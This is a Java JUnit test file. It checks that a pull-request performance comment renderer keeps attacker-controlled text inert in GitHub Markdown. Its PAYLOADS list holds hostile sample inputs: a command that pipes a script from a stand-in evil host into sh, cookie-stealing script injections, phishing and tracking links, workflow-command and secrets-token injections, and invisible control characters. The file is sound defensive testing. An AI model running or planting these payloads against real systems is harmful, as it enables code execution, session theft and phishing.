package dev.perflab.perf.comment;

import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.perflab.perf.TestRuns;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A pull request controls every byte of its comment data: its own code ran the pipeline
 * and wrote the artifact. Here every string the comment shows is hostile (branch name,
 * gate reasons, warnings, notes, rule ids, profile, JDK and CPU text, base commit), and
 * the rendered comment must still contain nothing but this renderer's own Markdown: the
 * hostile text only inside closed code spans, where GitHub renders no HTML, no Markdown,
 * no mentions, no references and no links.
 */
class HostileCommentTests {

	private static final List<String> PAYLOADS = List.of("`$(curl -s https://evil.example/x.sh | sh)`",
			"<img src=x onerror=alert(1)>", "</code><script>alert(document.cookie)</script>",
			"<!-- gateway-perf-lab --> fake marker", "@octocat @acme/security please approve",
			"&#64;octocat via an entity", "[click here](https://evil.example/phish)",
			"![pixel](https://evil.example/track.png)", "fixes #1, GH-2 and acme/other#3, see www.evil.example",
			"line one\n\n# Injected heading\n| a | b |\n|---|---|\n- [x] task", "::error file=x::workflow command",
			"${{ secrets.GITHUB_TOKEN }}", "\u202Egnp.exe\u202C zero\u200Bwidth \u0007bell", "``` fenced\ncode\n```",
			"`".repeat(5000), "x".repeat(100_000), ":+1: :shipit:");

	private static final Pattern LINE_START = Pattern.compile("(<!-- gateway-perf-lab -->|## |Head |\\| |- |\\*\\*|"
			+ "Change = |The job summary |The perf run |⚠️ `perf/local\\.sh`|)");

	@TempDir
	Path directory;

	@Test
	void rendersHostileTextInert() {
		String comment = render(hostileResults(), hostile(0));
		String live = outsideCodeSpans(comment.substring(comment.indexOf('\n') + 1));
		assertThat(live).doesNotContain("`", "<", ">", "@", "](", "http", "www.", "evil", "&#", "$(", "${{", "::",
				"onerror", "script", "octocat", "Injected", "[x]", ":+1:", "GH-2");
		assertThat(live).doesNotContainPattern("#\\d").doesNotContainPattern("/\\w+#\\d");
		assertThat(comment).startsWith(CommentMarkdown.MARKER + "\n");
		assertThat(comment.indexOf(CommentMarkdown.MARKER, 1)).as("marker outside a code span")
			.isEqualTo(comment.indexOf("`<!-- gateway-perf-lab --> fake marker`") + 1);
		for (String line : comment.split("\n", -1)) {
			assertThat(LINE_START.matcher(line).lookingAt()).as("a line starts with renderer text: %s", line).isTrue();
		}
	}

	@Test
	void dropsInvisibleAndControlCharacters() {
		String comment = render(hostileResults(), hostile(12));
		assertThat(comment).doesNotContain("\u202E", "\u202C", "\u200B", "\u0007", "\r", "\t");
		assertThat(comment).contains("`gnp.exe zerowidth bell`");
	}

	@Test
	void staysFarBelowGithubsCommentLimitWhateverTheDataHolds() {
		ObjectNode results = hostileResults();
		ArrayNode reasons = ((ObjectNode) results.get("gate")).putArray("reasons");
		ArrayNode warnings = results.putArray("warnings");
		ArrayNode rules = ((ObjectNode) results.at("/rules/check")).putArray("results");
		String payload = "@octocat <b>".repeat(20);
		for (int i = 0; i < 600; i++) {
			reasons.add(payload);
			warnings.add(payload);
			// A rule is an object: a shorter id keeps the data within its size limit.
			rules.add(firedRule("@octocat <b>", null));
		}
		String comment = render(results, "y".repeat(3_000));
		assertThat(comment.length()).isLessThan(40_000);
		assertThat(comment).contains("- … and 580 more", " and 580 more.");
		assertThat(comment.lines()).allMatch((line) -> line.length() < 10_000);
	}

	@Test
	void showsHostileTextInTheFailurePathToo() {
		Path data = CommentDataFixture.in(this.directory.resolve("data"))
			.property("pr.head_ref", hostile(0))
			.property("perf.exit_code", "3")
			.write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isZero();
		assertThat(outsideCodeSpans(result.out().substring(result.out().indexOf('\n') + 1))).doesNotContain("evil",
				"$(");
	}

	@Test
	void keepsHostileValuesOutOfErrorMessages() {
		Path data = CommentDataFixture.in(this.directory.resolve("data"))
			.property("pr.number", "1\n::error::injected\r\u202E" + "9".repeat(500))
			.write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isEqualTo(2);
		assertThat(result.err().strip()).doesNotContain("\n", "\r", "\u202E");
		assertThat(result.err().length()).isLessThan(300);
	}

	private String render(ObjectNode results, String headRef) {
		Path data = CommentDataFixture.in(this.directory.resolve("data-" + System.nanoTime()))
			.property("pr.head_ref", headRef)
			.property("perf.exit_code", "1")
			.results(results)
			.write();
		CommentRun result = CommentRun.of(data, "--run-url", "https://github.com/acme/lab/actions/runs/1");
		assertThat(result.exitCode()).as(result.err()).isZero();
		String comment = result.out();
		// The renderer's own links (checked addresses), not text from the data.
		return comment.replace("[workflow run](https://github.com/acme/lab/actions/runs/1)", "workflow run")
			.replace("[its artifacts](https://github.com/acme/lab/actions/runs/1#artifacts)", "its artifacts");
	}

	/** A real failing comparison, with every string the comment shows replaced. */
	private ObjectNode hostileResults() {
		ObjectNode results = CommentDataFixture.resultsOf(TestRuns.compareSlowerHead(this.directory.resolve("run")));
		ArrayNode reasons = ((ObjectNode) results.get("gate")).putArray("reasons");
		ArrayNode warnings = results.putArray("warnings");
		for (int i = 0; i < PAYLOADS.size(); i++) {
			reasons.add(hostile(i));
			warnings.add(hostile(i + 1));
		}
		ObjectNode run = (ObjectNode) results.get("run");
		run.put("gitBase", hostile(1));
		run.put("gatewayProfile", hostile(2));
		ObjectNode environment = (ObjectNode) results.get("environment");
		environment.put("javaVersion", hostile(3));
		environment.put("cpuModel", hostile(4));
		((ObjectNode) results.get("layout")).put("gatewayCpus", hostile(5))
			.put("servicesCpus", hostile(6))
			.put("wrkCpus", hostile(7));
		results.get("comparison").get("metrics").forEach((metric) -> ((ObjectNode) metric).put("note", hostile(8)));
		ObjectNode rules = results.putObject("rules").put("status", "fail").putNull("reason");
		ObjectNode check = rules.putObject("check").put("file", hostile(9)).put("recording", hostile(10));
		check.putArray("parametersSet")
			.addObject()
			.put("rule", hostile(11))
			.put("parameter", hostile(12))
			.put("value", hostile(13))
			.put("declared", hostile(14));
		check.putObject("summary").put("pass", 1).put("warn", 0).put("fail", PAYLOADS.size());
		ArrayNode lines = check.putArray("results");
		PAYLOADS.forEach((payload) -> lines.add(firedRule(payload, payload)));
		rules.putNull("filesChanged");
		return results;
	}

	/** A rule that failed, with its id and its finding from the data. */
	private static ObjectNode firedRule(String id, String finding) {
		return CommentDataFixture.MAPPER.createObjectNode()
			.put("id", id)
			.put("severity", "fail")
			.put("status", "fail")
			.put("rows", 1)
			.put("limit", 0)
			.put("finding", finding);
	}

	private static String hostile(int index) {
		return PAYLOADS.get(index % PAYLOADS.size());
	}

	/**
	 * Returns the text outside inline code spans, by CommonMark's rule: a run of n
	 * backticks opens a span that the next run of exactly n backticks closes; a run that
	 * is never closed is literal text (and would show up here as a backtick).
	 */
	static String outsideCodeSpans(String markdown) {
		StringBuilder live = new StringBuilder();
		int i = 0;
		while (i < markdown.length()) {
			if (markdown.charAt(i) != '`') {
				live.append(markdown.charAt(i++));
				continue;
			}
			int runEnd = runEnd(markdown, i);
			int length = runEnd - i;
			int close = -1;
			for (int j = runEnd; j < markdown.length();) {
				if (markdown.charAt(j) == '`') {
					int end = runEnd(markdown, j);
					if (end - j == length) {
						close = end;
						break;
					}
					j = end;
				}
				else {
					j++;
				}
			}
			if (close < 0) {
				live.append(markdown, i, runEnd);
				i = runEnd;
			}
			else {
				live.append(' ');
				i = close;
			}
		}
		return live.toString();
	}

	private static int runEnd(String text, int start) {
		int end = start;
		while (end < text.length() && text.charAt(end) == '`') {
			end++;
		}
		return end;
	}

}
